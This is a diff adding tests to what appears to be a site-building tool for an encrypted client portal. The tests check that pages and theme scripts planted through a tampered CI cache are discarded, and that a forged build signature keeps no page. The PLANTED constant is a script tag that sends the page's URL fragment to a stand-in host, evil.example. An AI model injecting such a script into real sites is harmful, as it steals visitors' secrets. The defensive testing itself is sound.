@@ -318,3 +318,44 @@ def test_a_build_of_every_page_links_the_encrypted_files_the_live_site_holds(
             sealed.open_file(portal.site, client, "files/documents/payroll.csv")
             == FILES["documents/payroll.csv"]
         )
+
+
+PLANTED = b"<script>fetch('https://evil.example/'+location.hash)</script>"
+
+
+def restored_from_a_shared_cache(site: Path) -> None:
+    """What CI does each day: the site comes back from a cache, as new files."""
+    for path in [p for p in site.rglob("*") if p.is_file()]:
+        data = path.read_bytes()
+        path.unlink()
+        path.write_bytes(data)
+
+
+def test_a_site_restored_from_a_shared_cache_is_published_only_as_this_tool_wrote_it(
+    portal: Project, tmp_path: Path
+) -> None:
+    """CI keeps the site between runs so that a new day keeps pages; whoever can write that
+    cache could plant a page, a file in a page's folder or a script of the theme. A page is
+    kept only while its folder is exactly what the last build wrote (recorded in the signed
+    build state), and the theme's files are carried over only while their bytes match."""
+    restored_from_a_shared_cache(portal.site)
+    alpha = sealed.page_dir(portal.site, "alpha")
+    beta = sealed.page_dir(portal.site, "beta")
+    page = alpha / "index.html"
+    page.write_bytes(page.read_bytes().replace(b"</head>", PLANTED + b"</head>"))
+    (beta / "f" / "extra.html").write_bytes(PLANTED)
+    script = portal.site / "assets" / "handover.js"
+    script.write_bytes(script.read_bytes() + PLANTED)
+    result = portal.run("build", "--today", "2026-12-01")
+    assert "Built 2 client pages (1 unchanged, kept)" in result.output
+    assert not any(PLANTED in p.read_bytes() for p in portal.site.rglob("*") if p.is_file())
+    assert tree(portal.site) == full_build(portal, tmp_path / "full")
+
+
+def test_a_build_state_not_signed_by_this_portal_keeps_no_page(portal: Project) -> None:
+    state = portal.root / ".handover" / "cache" / "last-build.json"
+    stored = read_json(state)
+    assert stored is not None
+    stored["mac"] = "0" * 64
+    write_json(state, stored)  # a good checksum, a signature that no longer holds
+    assert "Built 3 client pages" in portal.run("build", "--today", "2026-12-01").output
